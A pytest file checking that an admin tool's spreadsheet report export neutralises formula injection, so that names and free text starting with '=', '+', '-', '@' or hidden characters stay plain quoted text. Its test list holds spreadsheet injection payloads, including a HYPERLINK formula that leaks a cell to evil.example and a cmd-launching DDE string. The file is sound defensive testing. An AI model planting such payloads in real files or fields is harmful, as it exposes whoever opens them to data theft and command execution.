"""Finding 12: spreadsheet exports write names and free text as text, never as formulas."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import load_workbook

from admin_ui.exports import report_xlsx
from admin_ui.exports.xlsx import neutralise_formulas

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def _data(names: list[str]) -> dict[str, Any]:
    group = {
        "cases": 1,
        "high": 1,
        "medium": 0,
        "low": 0,
        "average": 50.0,
        "missed": 1,
        "unreachable": 0,
        "bail": Decimal("1000"),
        "bail_high": Decimal("1000"),
    }
    rows = [
        {
            "rank": n,
            "name_th": name,
            "office_th": name,
            "office_en": name,
            "court": name,
            "officer": name,
            "score": -5,
            "band": "high",
            "bail_amount": Decimal("-1000"),
            "next_court_date": date(2026, 1, 2),
            "factors": [],
        }
        for n, name in enumerate(names, start=1)
    ]
    labelled = [{**group, "label_th": name, "label_en": name} for name in names]
    return {
        "filters": SimpleNamespace(
            office_id=None, date_from=date(2026, 1, 1), date_to=date(2026, 6, 30), page=1
        ),
        "offices": [],
        "as_of": datetime(2026, 7, 1, tzinfo=UTC),
        "pages": 1,
        "total": len(rows),
        "rows": rows,
        "summary": group,
        "by_band": [{**group, "band": "high"}],
        "by_province": labelled,
        "by_office": labelled,
        "by_court": labelled,
        "by_officer": labelled,
        "by_month": [],
        "missed_by_office": [{"label_th": n, "label_en": n, "missed": 1} for n in names],
        "backtest": {"cases": 0, "absconded": 0, "base_rate": 0.0, "bands": []},
    }


@pytest.mark.parametrize("lang", ["th", "en"])
def test_text_that_starts_like_a_formula_is_exported_as_text(lang):
    book = load_workbook(io.BytesIO(report_xlsx(_data(HOSTILE), lang)))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE:
                    # Kept as typed, stored as text and quote-prefixed (stays text when edited).
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
                    seen.append(cell.value)
    # Every hostile value reached the workbook: each name, court and officer column, and the
    # office labels of every aggregate table.
    assert set(seen) == set(HOSTILE) and len(seen) >= 4 * len(HOSTILE)


def test_numbers_and_ordinary_text_are_left_alone():
    book = load_workbook(io.BytesIO(report_xlsx(_data(["สมชาย ใจดี"]), "th")))
    sheet = book.worksheets[0]
    name, score, bail = sheet.cell(2, 2), sheet.cell(2, 6), sheet.cell(2, 8)
    assert name.value == "สมชาย ใจดี" and not name.quotePrefix
    assert score.value == -5 and score.data_type == "n"
    assert bail.value == -1000 and bail.data_type == "n"


def test_a_carriage_return_first_is_neutralised_too():
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.worksheets[0]
    sheet.append(["\r=1+1", "\t@A1"])
    neutralise_formulas(book)
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in sheet[1])
